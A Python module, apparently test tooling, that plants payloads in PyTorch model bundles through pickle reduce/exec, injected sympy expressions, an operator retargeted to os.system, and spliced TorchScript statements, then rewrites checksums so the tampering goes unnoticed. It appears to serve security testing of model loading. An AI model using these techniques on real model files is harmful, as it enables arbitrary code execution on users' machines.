"""Bundles of strangers: right in every number and checksum, with a program inside that does something else besides.

A payload is Python source. It gets into `model.pt2` by the ways that torch offers: a pickle of the sample inputs, the
weights or the constants, an expression that is handed to sympy, the target of an operator.
"""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from bundles import rewrite_checksums

Edit = Callable[[bytes], bytes]


def edit_archive(path: Path, part: str, change: Edit, holding: bytes = b"") -> None:
    """Change the first record of a torch archive whose name contains `part`, and whose content `holding`."""
    reader = torch._C.PyTorchFileReader(str(path))
    names = [name.split("/", 1)[1] for name in zipfile.ZipFile(path).namelist()]
    records = {
        name: reader.get_record(name) for name in names if not name.startswith((".data", "version", "byteorder"))
    }
    found = next(name for name, data in records.items() if part in name and holding in data)
    records[found] = change(records[found])
    del reader
    writer = torch._C.PyTorchFileWriter(str(path))
    for name, data in records.items():
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()


class _Runs:
    """A pickle that runs source, and then is the value of an expression."""

    def __init__(self, source: str, expression: str) -> None:
        self._code = f"[exec({source!r}, {{}}), {expression}][1]"

    def __reduce__(self) -> tuple[object, ...]:
        return eval, (self._code,)


def by_sample_inputs(bundle: Path, source: str) -> None:
    def change(old: bytes) -> bytes:
        file = io.BytesIO()
        torch.save(_Runs(source, f"__import__('torch').load(__import__('io').BytesIO({old!r}))"), file)
        return file.getvalue()

    edit_archive(bundle / "model.pt2", "data/sample_inputs/model.pt", change)
    rewrite_checksums(bundle)


def by_expression(bundle: Path, source: str) -> None:
    def change(old: bytes) -> bytes:
        value = json.loads(old)
        injected: list[Any] = []

        def walk(node: object) -> None:
            if isinstance(node, dict):
                for key, item in node.items():
                    if key == "expr_str" and not injected:
                        injected.append(item)
                        node[key] = f"[{item}, __import__('builtins').exec({source!r}, {{}})][0]"
                    else:
                        walk(item)
            elif isinstance(node, list):
                for item in node:
                    walk(item)

        walk(value)
        assert injected
        return json.dumps(value).encode()

    edit_archive(bundle / "model.pt2", "models/model.json", change)
    rewrite_checksums(bundle)


def by_operator(bundle: Path, command: str) -> None:
    """The target of an operator is `os.system`; the payload is a shell command."""

    def change(old: bytes) -> bytes:
        value = json.loads(old)
        graph = value["graph_module"]["graph"]
        node = json.loads(json.dumps(graph["nodes"][0]))
        node.update(
            target="torch.serialization.os.system",
            name="boom",
            inputs=[{"name": "", "arg": {"as_string": command}, "kind": 1}],
            outputs=[{"as_sym_int": {"as_name": "boom"}}],
        )
        graph["nodes"].insert(0, node)
        graph["sym_int_values"] = {**graph.get("sym_int_values", {}), "boom": {"as_int": 0}}
        return json.dumps(value).encode()

    edit_archive(bundle / "model.pt2", "models/model.json", change)
    rewrite_checksums(bundle)


def by_pickle(bundle: Path, record: str, source: str) -> None:
    """A record of `model.pt2` or `model.pt` is a pickle that runs the source; the value is nothing useful."""
    name, _, part = record.partition("!")
    edit_archive(bundle / name, part, lambda _: pickle.dumps(_Runs(source, "None"), protocol=2))
    rewrite_checksums(bundle)


def by_torchscript(bundle: Path, statements: str) -> None:
    """Statements at the start of TorchScript's `forward`; they may use `image`."""

    def change(old: bytes) -> bytes:
        text = old.decode()
        at = text.index("    generator = self.generator\n")
        lines = "".join(f"    {line}\n" for line in statements.splitlines())
        return (text[:at] + lines + text[at:]).encode()

    # The file's name depends on how many classes torch.jit had named before in the process that wrote it.
    edit_archive(bundle / "model.pt", ".py", change, holding=b"    generator = self.generator\n")
    rewrite_checksums(bundle)


def writes(path: Path) -> str:
    """TorchScript that writes a file."""
    text = list(b"#!/bin/sh\necho owned\n")
    return (
        f'evil = torch.from_file("{path}", True, {len(text)}, dtype=0, layout=None, device=None, pin_memory=None)\n'
        f"_evil = torch.copy_(evil, torch.tensor({text}, dtype=0))\n"
        "image = torch.add(image, torch.mul(torch.sum(_evil), 0))"
    )
